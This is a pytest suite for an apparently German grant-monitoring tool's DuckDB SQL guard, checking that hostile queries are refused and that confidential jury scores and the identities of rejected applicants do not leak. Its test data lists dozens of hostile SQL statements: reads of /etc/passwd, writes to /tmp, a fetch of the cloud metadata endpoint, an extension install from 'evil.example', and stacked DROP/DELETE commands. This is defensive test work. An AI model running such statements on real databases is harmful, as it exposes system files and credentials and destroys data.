"""The SQL guard: hostile statements are refused, no file changes or appears, no confidential score leaks."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import duckdb
import pandas as pd
import pytest

from monitor import guard
from monitor.db import ROOT, Database
from monitor.sandbox import EXCLUDED, Sandbox, catalogue

DEMO = ROOT / "data" / "demo"
# applications whose scores are confidential, read straight from the CSV (not through the code under test)
_apps = pd.read_csv(DEMO / "application.csv", dtype=str)
NOT_SELECTED = sorted(_apps.loc[_apps["status"] != "selected", "application_id"])
SELECTED = sorted(_apps.loc[_apps["status"] == "selected", "application_id"])

HOSTILE = {
    "file_read": [
        "select * from read_csv('/etc/passwd')",
        "select * from read_csv_auto('/etc/passwd')",
        "select * from read_text('/etc/passwd')",
        "select * from read_blob('/etc/passwd')",
        "select * from glob('/etc/*')",
        "select * from '/etc/passwd'",
        'select * from "/etc/passwd"',
        "select * from 'data/demo/score.csv'",
        "from 'data/demo/score.csv'",
        "select * from read_parquet('/tmp/x.parquet')",
        "select * from parquet_scan('x.parquet')",
        "select * from read_json('/etc/hosts')",
        "select * from read_json_auto('scores.json')",
        "select * from sniff_csv('/etc/passwd')",
        "select * from parquet_metadata('x.parquet')",
        "select content from read_text('data/monitor.duckdb')",
        "select * from read_csv(['/etc/passwd', '/etc/hosts'])",
        "with leak as (select * from read_csv('/etc/passwd')) select * from leak",
        "select (select count(*) from read_text('/etc/passwd')) as n",
        "select * from application where title in (select content from read_text('/etc/hostname'))",
        "select * from application, read_csv('data/demo/score.csv') s",
    ],
    "file_write": [
        "copy application to '/tmp/explorer_leak.csv'",
        "copy (select * from score) to '/tmp/explorer_leak.parquet' (format parquet)",
        "copy score from '/etc/passwd'",
        "export database '/tmp/explorer_export'",
    ],
    "network": [
        "select * from read_csv('https://example.com/x.csv')",
        "select * from 'http://example.com/data.parquet'",
        "select * from 'https://example.com/x.csv'",
        "select * from read_parquet('s3://bucket/score.parquet')",
        "select * from read_json('http://169.254.169.254/latest/meta-data/')",
    ],
    "attach": [
        "attach '/tmp/explorer_other.duckdb' as other",
        "attach 'data/monitor.duckdb' as main_db (read_only)",
        "detach database main",
        "use system",
    ],
    "extensions": [
        "install httpfs",
        "load httpfs",
        "force install httpfs from 'http://evil.example'",
        "select * from sqlite_scan('data/x.db', 'score')",
    ],
    "settings": [
        "set enable_external_access = true",
        "reset enable_external_access",
        "pragma memory_limit = '100GB'",
        "set python_enable_replacements = true",
        "set variable leak = 1",
        "call pragma_database_list()",
        "pragma database_list",
        "call duckdb_tables()",
        "checkpoint",
    ],
    "ddl_dml": [
        "create table t as select 1",
        "create temp table t as select * from score",
        "create view v as select * from score",
        "create or replace table programme as select 1 as x",
        "drop table score",
        "alter table application add column x integer",
        "insert into score values ('BW-20', 'im', 'buergernutzen', 10, false)",
        "update application set status = 'selected'",
        "delete from application",
        "truncate score",
        "create macro leak(x) as x",
        "create secret leak (type s3, key_id 'a', secret 'b')",
        "create sequence s",
        "vacuum",
        "begin transaction",
        "pivot score on juror_id using sum(points)",
        "explain analyze select * from score",
    ],
    "stacked_and_comments": [
        "select 1; drop table score",
        "select 1; attach '/tmp/explorer_other.duckdb'",
        "select 1 /* ; */ ; copy score to '/tmp/explorer_leak.csv'",
        "select 1 --\n; drop table score",
        "/* harmless */ drop table score",
        "-- select\ndelete from score",
        "select 1;; select 2",
        "SeLeCt 1; InStAlL httpfs",
        "with x as (select 1) delete from score",
    ],
    "catalog": [
        "select * from duckdb_tables()",
        "select * from duckdb_databases()",
        "select * from duckdb_columns()",
        "select * from duckdb_settings()",
        "select * from duckdb_functions()",
        "select * from information_schema.tables",
        "select * from information_schema.columns",
        "select * from pg_catalog.pg_class",
        "select * from sqlite_master",
        "select current_setting('temp_directory')",
        "select * from system.main.duckdb_tables",
        "show databases",
        "show all tables",
        "select * from query('select * from score')",
        "select * from query_table('score')",
        "select * from monitor.main.score",
        # DuckDB's catalogue view that names the database file, also behind CTEs of the same name
        "select * from pragma_database_list",
        "select file from main.pragma_database_list",
        "select * from (with pragma_database_list as (select 1) select 1), pragma_database_list",
        "with pragma_database_list as (select * from pragma_database_list) select * from pragma_database_list",
        "with a as (select * from pragma_database_list), pragma_database_list as (select 1) select * from a",
        "with x as (select 1) select * from (with y as (with duckdb_databases as (select 1) select 1) "
        "select * from y), duckdb_databases",
        "select * from duckdb_settings",
        "select * from pg_settings",
        "select current_catalog() as c",
    ],
    "python_variables": [
        "select * from secret_frame",
        "select * from hostile_frames",
        "select * from pd",
    ],
}
# what each category is refused as (the catalogue message the user reads)
EXPECTED = {
    "file_read": {"file"}, "file_write": {"not_select"}, "network": {"network"}, "attach": {"not_select"},
    "extensions": {"not_select", "file"}, "settings": {"not_select"}, "ddl_dml": {"not_select"},
    "stacked_and_comments": {"multiple", "not_select"}, "catalog": {"catalog", "function", "table_function"},
    "python_variables": {"unknown_table"},
}
CASES = [(category, sql) for category, statements in HOSTILE.items() for sql in statements]


@pytest.fixture(autouse=True)
def query_log(tmp_path, monkeypatch) -> Path:
    """Every test logs to its own file."""
    path = tmp_path / "queries.jsonl"
    monkeypatch.setenv("MONITOR_QUERY_LOG", str(path))
    return path


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_there_are_at_least_sixty_hostile_statements():
    assert len(CASES) >= 60
    assert len({sql for _, sql in CASES}) == len(CASES)


@pytest.mark.parametrize(("category", "sql"), CASES, ids=[f"{c}-{i}" for i, (c, _) in enumerate(CASES)])
def test_hostile_statement_is_refused(category, sql):
    secret_frame = pd.DataFrame({"points": [99.5]})  # noqa: F841 - a local the query must not see
    with pytest.raises(guard.Refusal) as caught:
        guard.run(sql, role="analyse")
    assert caught.value.code in EXPECTED[category]
    message = caught.value.message(lang="de")
    assert message.startswith("Abgelehnt")
    assert "Traceback" not in message and "\n" not in message
    assert "99.5" not in message


def test_hostile_statements_change_no_file_and_create_none(shared_db, tmp_path):
    guard.run("select 1 as warm_up", role="analyse")  # the analysis copy exists before the snapshot
    sandbox = Sandbox.path()
    watched = [shared_db, sandbox]
    before = {p: _sha(p) for p in watched}
    # the databases' folder is private to the test session; other folders are shared with parallel work, so the
    # targets the statements name are checked one by one below
    listing = {d: sorted(p.name for p in d.iterdir()) for d in {shared_db.parent}}
    for _, sql in CASES:
        with pytest.raises(guard.Refusal):
            guard.run(sql, role="analyse")
    assert {p: _sha(p) for p in watched} == before
    assert {d: sorted(p.name for p in d.iterdir()) for d in listing} == listing
    for leak in ("/tmp/explorer_leak.csv", "/tmp/explorer_leak.parquet", "/tmp/explorer_export",
                 "/tmp/explorer_other.duckdb"):
        assert not Path(leak).exists()


def test_runtime_layer_refuses_on_its_own():
    """Without the statement check, the copy's locked connection still refuses files, settings and writes."""
    hostile_frame = pd.DataFrame({"x": [1]})  # noqa: F841 - must not be scanned
    cur = Sandbox.cursor()
    try:
        for sql, error in [
            ("select * from read_csv('/etc/passwd')", duckdb.PermissionException),
            ("select * from read_text('/etc/passwd')", duckdb.PermissionException),
            ("copy application to '/tmp/explorer_leak.csv'", duckdb.PermissionException),
            ("attach '/tmp/explorer_other.duckdb'", duckdb.PermissionException),
            ("load httpfs", duckdb.PermissionException),
            ("set enable_external_access = true", duckdb.InvalidInputException),
            ("set python_enable_replacements = true", duckdb.InvalidInputException),
            ("create table t as select 1", duckdb.InvalidInputException),
            ("delete from application", duckdb.InvalidInputException),
            ("select * from hostile_frame", duckdb.CatalogException),
        ]:
            with pytest.raises(error):
                cur.execute(sql).fetchall()
        settings = dict(cur.execute(
            "select name, value from duckdb_settings() where name in ('enable_external_access', "
            "'lock_configuration', 'python_enable_replacements', 'autoload_known_extensions', 'threads', "
            "'memory_limit', 'temp_directory')"
        ).fetchall())
    finally:
        cur.close()
    assert settings == {"enable_external_access": "false", "lock_configuration": "true",
                        "python_enable_replacements": "false", "autoload_known_extensions": "false", "threads": "1",
                        "memory_limit": "488.2 MiB", "temp_directory": ""}  # 512 MB; nothing spills to disk


def test_scores_of_applications_not_selected_are_absent():
    # 9 selected applications x 5 jurors x 6 criteria = 270 score rows (data/demo/score.csv has 1050)
    rows = guard.run("select * from score", role="analyse").frame
    assert len(rows) == 270
    assert sorted(rows["application_id"].unique()) == SELECTED
    outputs = [
        guard.run("select application_id, sum(points) as points from score group by all", role="analyse").frame,
        guard.run("select s.*, a.status from score s join application a using (application_id) "
                  "where a.status <> 'selected'", role="analyse").frame,
        guard.run("select count(*) as n from score where is_recused", role="analyse").frame,
        guard.run("summarize score", role="analyse").frame,
    ]
    assert len(outputs[1]) == 0
    # recusals: 6 rows of selected applications in the demo data (24 in all)
    assert outputs[2]["n"].iloc[0] == 6
    text = " ".join(frame.to_csv() for frame in outputs)
    assert not any(app_id in text for app_id in NOT_SELECTED)


def test_other_tables_keep_every_row():
    assert guard.run("select count(*) as n from application", role="analyse").frame["n"].iloc[0] == 42
    assert guard.run("select count(*) as n from payment", role="analyse").frame["n"].iloc[0] == 25
    # the confidential scores are still in the main database: only the copy lacks them
    cur = Database.cursor()
    try:
        assert cur.execute("select count(*) from score").fetchall()[0][0] == 1050
    finally:
        cur.close()


def test_the_plan_layer_refuses_catalogue_reads_on_its_own():
    """Without the syntax check, DuckDB's plan of a statement still shows the catalogue function it would read."""
    from monitor import sandbox

    cur = Sandbox.cursor()
    tables, functions = set(catalogue()), guard.SAFE_TABLE_FUNCTIONS
    try:
        for sql in ["select * from duckdb_databases()", "select * from pragma_database_list",
                    "select * from (with pragma_database_list as (select 1) select 1), pragma_database_list",
                    "select * from duckdb_settings()"]:
            assert sandbox.plan_violation(cur, sql, None, tables, functions) == ("catalog", ""), sql
        assert sandbox.plan_violation(cur, "select * from project_detail join payment using (project_id)", None,
                                      tables, functions) is None
        assert sandbox.plan_violation(cur, "select * from range(3), unnest([1, 2])", None, tables, functions) is None
    finally:
        cur.close()


def test_no_output_names_the_copys_file():
    copy = str(Sandbox.path())
    for sql in HOSTILE["catalog"]:
        with pytest.raises(guard.Refusal) as caught:
            guard.run(sql, role="analyse")
        assert copy not in caught.value.message(lang="de") and Sandbox.path().stem not in caught.value.message()


def test_a_query_that_ignores_interrupts_is_killed_and_the_next_one_runs(monkeypatch):
    """list_sort of 100 million numbers is one function call that DuckDB cannot interrupt: its process is killed."""
    killed = []
    kill = guard._Worker.kill

    def recording(worker):
        killed.append(worker.process.pid)
        kill(worker)

    monkeypatch.setattr(guard._Worker, "kill", recording)
    with pytest.raises(guard.Refusal) as caught:
        guard.run("select len(list_sort(range(100000000))) as n", role="analyse", time_limit=1)
    assert caught.value.code == "timeout"
    assert len(killed) == 1 and not Path(f"/proc/{killed[0]}").exists()  # the work has stopped: no process left
    assert guard.run("select 42 as answer", role="analyse").frame["answer"].tolist() == [42]


def test_a_result_above_the_byte_bound_is_refused_with_its_size(monkeypatch):
    monkeypatch.setenv("MONITOR_EXPLORER_RESULT_MB", "1")
    with pytest.raises(guard.Refusal) as caught:
        # 200.000 BIGINT values: 1.600.000 bytes = 1,5 MB
        guard.run("select range::bigint as n from range(200000)", role="analyse", max_rows=200_000)
    assert caught.value.code == "too_large"
    assert caught.value.message(lang="de") == (
        "Ergebnis zu groß (1,5 MB, höchstens 1 MB): bitte gruppieren/aggregieren oder exportieren.")
    assert caught.value.message(lang="en") == (
        "Result too large (1.5 MB, at most 1 MB): please group/aggregate or export.")
    assert len(guard.run("select range::bigint as n from range(100000)", role="analyse",
                         max_rows=200_000).frame) == 100_000  # 0,8 MB


def test_runaway_query_is_interrupted_and_the_next_one_works(query_log):
    with pytest.raises(guard.Refusal) as caught:
        guard.run("select sum(a.range * b.range) as s from range(1000000) a, range(1000000) b",
                  role="analyse", time_limit=0.5)
    assert caught.value.code == "timeout"
    assert "Zeitlimit" in caught.value.message(lang="de")
    assert guard.run("select 42 as answer", role="analyse").frame["answer"].tolist() == [42]
    entries = [json.loads(line) for line in query_log.read_text().splitlines()]
    assert [(e["refused"], e["reason"]) for e in entries] == [(True, "timeout"), (False, None)]


def test_memory_hungry_query_is_stopped_and_the_next_one_works():
    with pytest.raises(guard.Refusal) as caught:
        guard.run("select string_agg(range::varchar, ',') as s from range(200000000)", role="analyse")
    assert caught.value.code == "memory"
    assert guard.run("select 42 as answer", role="analyse").frame["answer"].tolist() == [42]


def test_row_cap_truncates_with_notice():
    result = guard.run("select range as n from range(50)", role="analyse", max_rows=10)
    assert result.truncated
    assert result.frame["n"].tolist() == list(range(10))
    assert not guard.run("select range as n from range(10)", role="analyse", max_rows=10).truncated


def test_every_query_is_logged_with_hash_and_outcome(query_log):
    sql = "select kind, count(*) as payment_count from payment group by kind"
    guard.run(sql, role="analyse", source="sql")
    with pytest.raises(guard.Refusal):
        guard.run("drop table score", role="admin", source="cli")
    first, second = [json.loads(line) for line in query_log.read_text().splitlines()]
    assert first["role"] == "analyse" and first["source"] == "sql"
    assert first["sql_sha256"] == hashlib.sha256(sql.encode()).hexdigest()
    assert first["rows"] == 2 and first["refused"] is False and first["reason"] is None
    assert isinstance(first["duration_ms"], int) and "at" in first
    assert second["role"] == "admin" and second["refused"] is True and second["reason"] == "not_select"
    assert "drop" not in query_log.read_text().lower()  # the log holds hashes, not the SQL


def test_errors_show_one_line_without_traceback_or_paths():
    with pytest.raises(guard.Refusal) as caught:
        guard.run("select no_such_column from payment", role="analyse")
    message = caught.value.message(lang="de")
    assert caught.value.code == "error"
    assert message.startswith("Die Abfrage konnte nicht ausgeführt werden")
    assert "no_such_column" in message
    assert "Traceback" not in message and "\n" not in message and str(ROOT) not in message


def test_safe_statements_run():
    assert guard.run("with p as (select * from payment) select count(*) as n from p", role="analyse") \
        .frame["n"].iloc[0] == 25
    assert len(guard.run("select * from range(3)", role="analyse").frame) == 3
    assert len(guard.run("describe payment", role="analyse").frame) == 7


def test_copy_follows_changes_of_the_main_database(fresh_db):
    old = Sandbox.path()
    cur = Database.cursor()
    try:
        cur.execute("insert into payment values "
                    "('Z-TEST', 'DM-01', date '2023-03-01', 1234.00, 'abschlag', null, null)")
    finally:
        cur.close()
    Database.changed()
    new = Sandbox.path()
    assert new != old and not old.exists()
    assert guard.run("select count(*) as n from payment", role="analyse").frame["n"].iloc[0] == 26
    Sandbox.close_all()


def test_every_schema_column_is_described_or_excluded(shared_db):
    """A new table or column stays out of the analysis copy until it is described (or excluded on purpose)."""
    cur = Database.cursor(shared_db)
    try:
        columns = cur.execute("select table_name, column_name from information_schema.columns "
                              "where table_schema = 'main'").fetchall()
    finally:
        cur.close()
    described = {(table, column) for table, cols in catalogue().items() for column in cols}
    missing = [f"{t}.{c}" for t, c in columns
               if (t, c) not in described and t not in EXCLUDED and f"{t}.{c}" not in EXCLUDED]
    assert missing == [], f"in monitor/texts/explorer_columns.toml beschreiben: {missing}"


# --- identities of applications that were not selected ------------------------------------------------------
# worked out from the CSVs alone: what exists only for the 33 applications that were not selected and the 33
# applicants that never got a project (a value that also appears in any other cell of data/demo is left out)
def _confidential_values() -> tuple[set[str], set[str], set[float]]:
    projects = pd.read_csv(DEMO / "project.csv", dtype=str)
    applicants = pd.read_csv(DEMO / "applicant.csv", dtype=str)
    unfunded = set(applicants.loc[~applicants["applicant_id"].isin(projects["applicant_id"]), "applicant_id"])
    hidden = _apps[_apps["status"] != "selected"]
    texts, numbers = [], set()
    for path in DEMO.glob("*.csv"):
        frame = pd.read_csv(path, dtype=str)
        if path.stem == "application":
            frame = frame[frame["status"] == "selected"]
        if "applicant_id" in frame.columns and path.stem in ("applicant", "applicant_member"):
            frame = frame[~frame["applicant_id"].isin(unfunded)]
        for value in frame.to_numpy().ravel():
            if isinstance(value, str):
                texts.append(value.casefold())
                try:
                    numbers.add(float(value))
                except ValueError:
                    pass
    others = "\n".join(texts)
    # a Kreis that applied is named by its Kreis, which stays (pages name Kreise as "Kreis Plön")
    named = applicants["applicant_id"].isin(unfunded) & (applicants["kind"] != "kreis")
    names = set(hidden["title"]) | set(applicants.loc[named, "name"])
    amounts = {float(v) for v in hidden["requested_eur"]} - numbers
    return {n for n in names if n.casefold() not in others}, unfunded, amounts


SECRET_TEXTS, UNFUNDED_IDS, SECRET_AMOUNTS = _confidential_values()


def _cells(frame: pd.DataFrame) -> set:
    return {v for v in frame.to_numpy().ravel() if v is not None and not (isinstance(v, float) and pd.isna(v))}


def _assert_no_identity(cells: set, where: str) -> None:
    texts = {str(v) for v in cells}
    leaked = {s for s in SECRET_TEXTS if any(s in v for v in texts)} | (UNFUNDED_IDS & texts)
    numbers = set()
    for v in cells:
        try:
            numbers.add(float(v))
        except (TypeError, ValueError):
            pass
    assert not leaked and not (SECRET_AMOUNTS & numbers), (where, leaked, SECRET_AMOUNTS & numbers)


def test_the_confidential_values_are_many():
    # 33 titles + 30 applicant names (not the 3 Kreise: a Kreis is named by its Kreis); 33 applicant ids;
    # 24 requested amounts no other row of the demo data has
    assert (len(SECRET_TEXTS), len(UNFUNDED_IDS), len(SECRET_AMOUNTS)) == (63, 33, 24)
    assert "Smart City Lübeck – Digitale Daseinsvorsorge im Quartier" in SECRET_TEXTS
    assert "Hansestadt Lübeck" in SECRET_TEXTS and "luebeck" in UNFUNDED_IDS and 150000.0 in SECRET_AMOUNTS


def test_free_sql_reaches_no_identity_of_applications_not_selected():
    # every row of every table and view of the copy, as an analyst's free SQL sees it
    for table in Sandbox.tables():
        frame = guard.run(f'select * from "{table}"', role="analyse", max_rows=100_000).frame
        _assert_no_identity(_cells(frame), table)
    # what stays: how many were not selected, of which kind, in which Kreis, and why they dropped out
    counts = guard.run("select status, count(*) as n, count(distinct applicant_id) as applicants, "
                       "count(title) as titles, count(requested_eur) as amounts from application "
                       "group by status order by status", role="analyse").frame
    assert counts.to_dict("records") == [
        {"status": "ineligible", "n": 5, "applicants": 5, "titles": 0, "amounts": 0},
        {"status": "not_selected", "n": 26, "applicants": 26, "titles": 0, "amounts": 0},
        {"status": "selected", "n": 9, "applicants": 9, "titles": 9, "amounts": 9},
        {"status": "withdrawn", "n": 2, "applicants": 2, "titles": 0, "amounts": 0},
    ]
    reasons = guard.run("select dropout_reason, count(*) as n from application where dropout_reason is not null "
                        "group by all order by 1", role="analyse").frame
    assert dict(zip(reasons["dropout_reason"], reasons["n"])) == {
        "Antrag nach Fristende eingegangen": 1, "Antrag zurückgezogen": 2,
        "Kein kommunaler Antragsteller / Antragsberechtigung fehlt": 1, "Unterlagen unvollständig": 2,
        "Vorhaben bereits begonnen": 1}
    # Lübeck's application (BW-12): a kreisfreie Stadt in Kreis 01003, under a pseudonym, without title or amount
    row = guard.run("select * from application_detail where application_id = 'BW-12'", role="analyse").frame
    assert row[["applicant_kind", "kreis_name", "status"]].to_dict("records") == [
        {"applicant_kind": "kreisfreie_stadt", "kreis_name": "Lübeck", "status": "not_selected"}]
    assert row[["applicant_name", "title", "requested_eur"]].isna().all(axis=None)
    members = guard.run("select count(distinct applicant_id) as n from applicant_member", role="analyse").frame
    assert members["n"].iloc[0] == 9  # the nine recipients' members only


def test_the_sql_command_reaches_no_identity(tmp_path):
    import os
    import subprocess
    import sys

    env = dict(os.environ, MONITOR_QUERY_LOG=str(tmp_path / "cli.jsonl"))
    env.pop("MONITOR_ROLE", None)
    proc = subprocess.run([sys.executable, "-m", "monitor.sql", "select * from application_detail", "--format", "csv"],
                          cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert len(proc.stdout.splitlines()) == 43  # header + 42 applications
    assert not [s for s in SECRET_TEXTS | UNFUNDED_IDS if s in proc.stdout.split(",")]
    assert not [s for s in SECRET_TEXTS if s in proc.stdout]


def test_the_explorer_catalogue_reaches_no_identity():
    from monitor import explorer

    for table, columns in explorer.catalogue().items():
        for column in columns:
            found = explorer.stats(table, column)
            _assert_no_identity({found.low, found.high, *found.values} - {None}, f"{table}.{column.name}")


def _page_text(at) -> str:
    """Everything an AppTest page holds: each element's proto as JSON, tables as CSV, figures as their JSON."""
    from google.protobuf.json_format import MessageToJson

    parts = []

    def walk(node):
        proto = getattr(node, "proto", None)
        if getattr(node, "type", None) in ("dataframe", "table", "arrow_data_frame"):
            parts.append(node.value.to_csv())
        elif getattr(node, "type", None) == "plotly_chart":
            parts.append(json.dumps(json.loads(proto.spec), ensure_ascii=False))
        elif proto is not None:
            parts.append(MessageToJson(proto, ensure_ascii=False))
        for child in getattr(node, "children", {}).values():
            walk(child)

    walk(at._tree)
    return "\n".join(parts)


NON_JURY = [(role, page.file) for role in ("analyse", "leitung") for page in __import__(
    "monitor.navigation", fromlist=["PAGES"]).PAGES if role in page.roles]


@pytest.mark.parametrize(("role", "page"), NON_JURY, ids=[f"{r}-{p}" for r, p in NON_JURY])
def test_no_page_without_the_jury_role_names_an_application_not_selected(app, role, page):
    import re

    queries = [{}]
    if page.endswith("explorer.py"):  # every table and view of the copy, as the Explorer shows it
        queries = [{"tabelle": table} for table in Sandbox.tables()]
    for query in queries:
        at = app(role=role, page=page, **query)
        assert not at.exception
        text = _page_text(at)
        leaked = [s for s in SECRET_TEXTS if s in text]
        leaked += [i for i in UNFUNDED_IDS if re.search(rf'(?<![\w-]){re.escape(i)}(?![\w-])', text)]
        assert not leaked, (query, leaked)
        # the two odd amounts only not-selected applications asked for, as any page would write them
        assert not re.search(r"(?<![\d.])(66\.500|75\.500|66500|75500)(?![\d])", text), query


# --- the named relations of monitor/relations.sql on the analysis copy ------------------------------------------
def test_every_named_relation_runs_on_the_copy():
    """The copy carries every table macro; they bind when called, so each one is called here on the copy's tables."""
    day = "'dmk-sh', date '2021-06-30'"
    calls = {
        "project_as_of": (f"project_as_of({day})", 9),              # data/demo/project.csv: decided 08.09.2020
        "project_goal_money": (f"project_goal_money({day})", 31),    # project_goal.csv
        "project_state": (f"project_state({day})", 9),
        "project_state_on": ("project_state_on('dmk-sh', [date '2021-06-30', date '2021-12-31'])", 18),
        "application_as_of": (f"application_as_of({day})", 42),      # application.csv: all received by 02.07.2020
        "application_stage": (f"application_stage({day})", 42),
        # the copy holds the scores of the 9 selected applications only: 270 rows, 6 of them recused
        "valid_score": (f"valid_score({day})", 264),
        "juror_scale": (f"juror_scale({day})", 5),
        "score_cell": (f"score_cell({day})", 54),                    # 9 applications x 6 criteria
        "application_ranking": (f"application_ranking({day})", 9),
        "milestone_state": (f"milestone_state({day})", 30),          # milestone.csv: all 30, projects decided
        # month ends 31.08.2020 (decision 26.08.2020) to 30.06.2021, the Stichtag itself among them
        "status_days": (f"(select unnest(status_days({day})))", 11),
        "mean_of_others": ("(select mean_of_others(20.0, 5.0, 4) as m)", 1),   # (20 − 5) / 3 = 5
        "programme_kreise": ("programme_kreise('dmk-sh')", 15),       # the 15 Kreise of Schleswig-Holstein
        "recipient_projects": ("recipient_projects('dmk-sh', 'kiel', date '2021-06-30')", 1),   # project.csv: DM-04
    }
    assert set(calls) == set(guard.RELATIONS)
    counts = {name: guard.run(f"select count(*) as n from {call}", role="analyse").frame["n"].iloc[0]
              for name, (call, _) in calls.items()}
    assert counts == {name: n for name, (_, n) in calls.items()}


def test_relations_on_the_copy_reach_no_identity():
    for sql in ["select * from application_stage('dmk-sh', date '2023-03-31')",
                "select * from application_as_of('dmk-sh', date '2023-03-31')",
                "select * from application_ranking('dmk-sh', date '2023-03-31')"]:
        _assert_no_identity(_cells(guard.run(sql, role="analyse").frame), sql)
    # project_state sums payments (DM-05 has 80.000 € paid by 31.03.2023: 30.000 + 30.000 + 20.000, an amount that
    # otherwise only a not-selected application asked for): its texts are checked
    state = guard.run("select * from project_state('dmk-sh', date '2023-03-31')", role="analyse").frame
    _assert_no_identity({v for v in _cells(state) if isinstance(v, str)}, "project_state")


def test_relations_are_called_only_by_their_name_and_their_arguments_are_checked():
    for sql, code in [
        ("select * from monitor.main.project_state('dmk-sh', date '2021-06-30')", "catalog"),
        ("select * from temp.main.project_as_of('dmk-sh', date '2021-06-30')", "catalog"),
        ("select * from project_as_of((select file from pragma_database_list), date '2021-06-30')", "catalog"),
        ("select * from project_as_of((select max(content) from read_text('/etc/passwd')), current_date)", "file"),
        ("select * from project_state('dmk-sh', date '2021-06-30') p, duckdb_settings() s", "catalog"),
        ("select * from project_statez('dmk-sh', date '2021-06-30')", "table_function"),
    ]:
        with pytest.raises(guard.Refusal) as caught:
            guard.run(sql, role="analyse")
        assert caught.value.code == code, sql
    # the plan layer alone lets the relations through: they scan only the copy's tables
    from monitor import sandbox

    cur = Sandbox.cursor()
    try:
        assert sandbox.plan_violation(cur, "select * from project_state('dmk-sh', date '2021-06-30')", None,
                                      set(catalogue()), guard.SAFE_TABLE_FUNCTIONS | guard.RELATIONS) is None
    finally:
        cur.close()
